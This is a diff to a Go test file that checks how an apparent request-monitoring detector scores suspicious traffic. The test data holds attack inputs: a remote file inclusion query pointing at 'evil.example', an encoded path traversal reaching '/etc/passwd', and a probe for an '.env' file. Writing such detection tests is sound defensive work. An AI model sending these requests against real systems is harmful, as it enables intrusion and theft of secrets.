@@ -271,9 +271,18 @@ func TestSignals(t *testing.T) {
 		"every fifth fails in an office": {evidence.FailuresByAddress, true, many(51, time.Second, func(i int) *event.RequestEvent {
 			return signIn([]string{event.AuthFailure, event.AuthSuccess, event.AuthSuccess, event.AuthSuccess, event.AuthSuccess}[i%5], fmt.Sprint(i))
 		}), 0, 2, false},
-		"failures that took place long ago":   {evidence.FailuresByAddress, true, append(many(12, time.Second, func(i int) *event.RequestEvent { return signIn(event.AuthFailure, fmt.Sprint(i)) }), step{5 * time.Hour, signIn(event.AuthFailure, "z")}), 1, 2, false},
-		"ten refused posts to a sign-in":      {evidence.LoginRate, true, many(10, time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 8, 20, false},
-		"three refused posts to a sign-in":    {evidence.LoginRate, true, many(3, time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 0, 2, false},
+		"failures that took place long ago": {evidence.FailuresByAddress, true, append(many(12, time.Second, func(i int) *event.RequestEvent { return signIn(event.AuthFailure, fmt.Sprint(i)) }), step{5 * time.Hour, signIn(event.AuthFailure, "z")}), 1, 2, false},
+		"ten refused posts to a sign-in":    {evidence.LoginRate, true, many(10, time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 8, 20, false},
+		"three refused posts to a sign-in":  {evidence.LoginRate, true, many(3, time.Second, func(int) *event.RequestEvent { return signIn("", "") }), 0, 2, false},
+		"a file elsewhere is included": {evidence.ScannerPaths, true, []step{{0, with(path("/a.php", 404), func(e *event.RequestEvent) {
+			e.Attributes = map[string]string{event.AttributeQuery: "page=1&inc=http://evil.example/x.txt??"}
+		})}}, 3, 3, false},
+		"a link elsewhere is followed": {evidence.ScannerPaths, false, []step{{0, with(path("/go", 404), func(e *event.RequestEvent) {
+			e.Attributes = map[string]string{event.AttributeQuery: "to=http://friend.example/x?y=1"}
+		})}}, 0, 0, false},
+		"seven posts to an account that nobody knows": {evidence.LoginRate, true, many(7, time.Second, func(int) *event.RequestEvent {
+			return with(signIn("", ""), func(e *event.RequestEvent) { e.Status = 404 })
+		}), 6, 9, false},
 		"an environment file":                 {evidence.ScannerPaths, true, []step{{0, path("/app/.env", 404)}}, 3, 3, false},
 		"a traversal":                         {evidence.ScannerPaths, true, []step{{0, path("/static/%2e%2e/%2E%2E/etc/passwd", 400)}}, 9, 9, false},
 		"the login of a blog that is one":     {evidence.ScannerPaths, true, []step{{0, path("/wp-login.php", 200)}}, 0.5, 1, false},
